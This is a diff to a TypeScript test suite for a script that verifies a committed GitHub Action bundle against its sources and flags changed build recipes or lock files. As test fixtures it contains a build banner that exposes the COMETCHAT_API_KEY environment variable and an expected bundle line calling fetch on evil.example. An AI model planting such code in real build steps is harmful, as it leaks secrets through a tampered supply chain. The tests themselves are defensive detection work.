@@ -85,13 +85,14 @@ describe('the bundle proof (scripts/prove-bundle.mjs)', () => {
   let n = 0;
 
   /** A checkout: package.json with a build:action, src/, the proof script, and optionally its built bundle. */
-  function checkout(opts: { build?: string; greeting?: string; built?: boolean } = {}): string {
+  function checkout(opts: { build?: string; greeting?: string; built?: boolean; yaml?: string } = {}): string {
     const dir = join(scratch, `bundle-proof-${process.pid}-${n++}`);
     mkdirSync(join(dir, 'src/action'), { recursive: true });
     mkdirSync(join(dir, 'scripts'));
     mkdirSync(join(dir, 'action-dist'));
     cpSync(proveScript, join(dir, 'scripts/prove-bundle.mjs'));
     writeFileSync(join(dir, 'package.json'), JSON.stringify({ type: 'module', scripts: { 'build:action': opts.build ?? BUILD } }));
+    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/yaml': { version: opts.yaml ?? '2.9.1' } } }));
     writeFileSync(join(dir, 'src/action/greeting.ts'), `export const greeting = ${JSON.stringify(opts.greeting ?? 'hello')};\n`);
     writeFileSync(join(dir, 'src/action/main.ts'), "import { stringify } from 'yaml';\nimport { greeting } from './greeting.js';\nconsole.log(stringify({ greeting }));\n");
     if (opts.built !== false) {
@@ -127,6 +128,7 @@ describe('the bundle proof (scripts/prove-bundle.mjs)', () => {
     expect(r.status).toBe(1);
     expect(r.stdout).toContain('action-dist/index.js differs from the bundle built from src/');
     expect(r.stdout).toMatch(/first difference at line \d+:\n {4}committed: "fetch\(\\"https:\/\/evil\.example/);
+    expect(r.stdout).not.toContain('changes the recipe');
     expect(readFileSync(out, 'utf8')).toMatch(/^description=differs from the sources at line \d+: see the run\n$/);
   });
 
@@ -136,9 +138,22 @@ describe('the bundle proof (scripts/prove-bundle.mjs)', () => {
     const evilBuild = `${BUILD} --banner:js="globalThis.leak = () => process.env.COMETCHAT_API_KEY;"`;
     const pr = checkout({ build: evilBuild });
     expect(prove(pr).status).toBe(0);
-    const r = prove(checkout({ built: false }), ['--source', pr]);
+    const out = join(tmp, 'output-3.txt');
+    writeFileSync(out, '');
+    const r = prove(checkout({ built: false }), ['--source', pr], { GITHUB_OUTPUT: out });
     expect(r.status).toBe(1);
-    expect(r.stdout).toContain('committed: "globalThis.leak = () => process.env.COMETCHAT_API_KEY;"');
+    expect(r.stdout).toContain("and the commit changes the recipe itself: package.json's build:action.");
+    expect(readFileSync(out, 'utf8')).toBe("description=the commit changes the build recipe (package.json's build:action): proved after merge, see the run\n");
+  });
+
+  it('names a changed lock file, and proves a commit whose recipe changed when its bundle still matches', () => {
+    const bumped = checkout({ yaml: '2.9.2' });
+    writeFileSync(join(bumped, 'action-dist/index.js'), `${readFileSync(join(bumped, 'action-dist/index.js'), 'utf8')}// rebuilt\n`);
+    const r = prove(checkout({ built: false }), ['--source', bumped]);
+    expect(r.status).toBe(1);
+    expect(r.stdout).toContain('the commit changes the recipe itself: package-lock.json.');
+    const unchanged = prove(checkout({ built: false }), ['--source', checkout({ yaml: '2.9.2' })]);
+    expect(unchanged.status).toBe(0);
   });
 
   it('refuses a link in src/ before touching anything, and a bundle that is not a regular file', () => {
